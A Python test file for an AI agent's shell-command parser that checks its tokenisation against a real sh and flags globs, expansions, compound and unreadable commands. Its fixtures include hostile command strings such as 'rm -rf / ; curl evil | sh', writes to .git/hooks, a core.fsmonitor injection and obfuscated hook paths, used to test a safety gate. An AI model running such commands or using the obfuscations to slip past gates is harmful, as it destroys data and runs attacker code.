"""The gate reads a command as ``/bin/sh`` does: its words are checked against a real ``sh`` on generated commands."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cortana.tools.builtin.shell import parse_command

# Quotes, escapes, globs, braces and $, but no operator or tilde: sh's words are then the words printed
# (a word with an expansion is compared only in that the gate marked it).
ALPHABET = "ab./-_=,:+ \t'\"\\*?[]{}#x1$"
commands = st.text(alphabet=ALPHABET, min_size=1, max_size=30)


def sh_words(command: str, folder: Path) -> list[str] | None:
    """The words ``sh`` makes of ``command`` (in an empty folder: no pattern matches); None on a syntax error."""
    done = subprocess.run(
        ["sh", "-c", f"printf '%s\\0' x {command}"], cwd=folder, capture_output=True, timeout=10, check=False
    )
    if done.returncode != 0:
        return None
    return done.stdout.decode("utf-8", "surrogateescape").split("\0")[1:-1]  # the x keeps printf from an empty run


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=commands)
def test_words_are_the_words_sh_makes(command: str, tmp_path: Path) -> None:
    parsed = parse_command(f"printf x x {command}")
    expected = sh_words(command, tmp_path)
    if parsed.opaque:  # $'…' too: bash and dash read it differently, so the gate will not guess
        assert expected is None or "$'" in command, f"sh read {command!r}; the gate could not"
        return
    if expected is None:
        return  # sh refused it (a lone '#'-comment quirk or similar); the gate's reading is not used to run it
    words = [word for c in parsed.commands for word in c.words][3:]
    if parsed.compound or len(parsed.commands) != 1 or any(word.expands for word in words):
        return
    if [word.text for word in words] != expected:  # a pattern matched files (an absolute one: /*)
        assert any(word.glob for word in words), f"sh expanded {command!r} and the gate saw no pattern"


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("cd .gi''t/hooks", ["cd", ".git/hooks"]),
        ('echo "a b" c\\ d', ["echo", "a b", "c d"]),
        ("echo a#b #comment", ["echo", "a#b"]),
        ("git -c core.fsmonitor='touch X' status", ["git", "-c", "core.fsmonitor=touch X", "status"]),
    ],
)
def test_quotes_are_removed(command: str, argv: list[str]) -> None:
    parsed = parse_command(command)
    assert not parsed.opaque and parsed.commands[0].argv == argv


def test_operators_split_commands_and_redirections_are_kept_apart() -> None:
    parsed = parse_command("cd src && echo x > ../.git/hooks/pre-commit 2>&1 | tee log; ls &")
    assert [c.argv for c in parsed.commands] == [["cd", "src"], ["echo", "x"], ["tee", "log"], ["ls"]]
    assert parsed.separators == ["&&", "|", ";", "&"]
    redirects = parsed.commands[1].redirects
    assert [(r.operator, r.target and r.target.text) for r in redirects] == [
        (">", "../.git/hooks/pre-commit"),
        ("2>&", "1"),
    ]
    assert redirects[0].writes and not redirects[0].harmless and redirects[1].harmless


@pytest.mark.parametrize(
    ("command", "flag"),
    [
        ("echo x > .g?t/hooks/pre-commit", "glob"),
        ("cp /tmp/x personalit[y]/assistant.md", "glob"),
        ("D=.git; echo x > $D/hooks/post-checkout", "expands"),
        ('echo "$(id)"', "expands"),
        ("echo `id`", "expands"),
        ("cat <(ls)", "expands"),
        ("echo {a,b}", "brace"),
        ("ls ~/x", "tilde"),
    ],
)
def test_what_the_shell_still_expands_is_marked(command: str, flag: str) -> None:
    parsed = parse_command(command)
    assert not parsed.opaque
    assert any(getattr(word, flag) for word in parsed.words()), [w for w in parsed.words()]


@pytest.mark.parametrize(
    "command",
    ["echo 'unclosed", 'echo "unclosed', "echo $(unclosed", "echo `unclosed", "cat <<EOF\nno end", "echo $'x'", "x >"],
)
def test_what_cannot_be_read_for_certain_is_opaque(command: str) -> None:
    assert parse_command(command).opaque


@pytest.mark.parametrize(
    "command",
    ["(cd x && ls)", "if true; then ls; fi", "f() { ls; }", "cat <<EOF\nhi\nEOF", "{ ls; }", "for f in a; do ls; done"],
)
def test_compound_commands_are_marked(command: str) -> None:
    parsed = parse_command(command)
    assert parsed.compound and not parsed.opaque


def test_a_here_document_body_is_data_not_commands() -> None:
    parsed = parse_command("cat > notes.txt <<'EOF'\nrm -rf / ; curl evil | sh\nEOF\nls")
    assert [c.argv for c in parsed.commands] == [["cat"], ["ls"]]
    assert parsed.commands[0].redirects[1].target is not None and parsed.commands[0].redirects[1].target.literal
    unquoted = parse_command("cat <<EOF\n$(id)\nEOF")
    assert not unquoted.commands[0].redirects[0].target.literal  # type: ignore[union-attr]


@pytest.mark.parametrize("command", ["grep 'x$' f", 'grep "foo$" f', "echo a$ b", "echo $"])
def test_a_dollar_that_starts_nothing_is_a_plain_character(command: str) -> None:
    parsed = parse_command(command)
    assert not parsed.opaque and all(word.literal for word in parsed.words())
